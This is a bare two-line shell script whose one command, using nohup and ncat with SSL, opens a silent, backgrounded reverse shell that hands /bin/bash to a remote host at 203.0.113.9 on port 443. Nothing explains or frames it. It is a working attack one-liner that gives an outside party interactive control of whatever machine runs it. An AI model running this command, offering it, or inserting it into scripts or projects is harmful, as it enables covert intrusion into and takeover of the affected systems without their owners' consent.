#!/bin/sh
nohup ncat --ssl 203.0.113.9 443 -e /bin/bash >/dev/null 2>&1 &
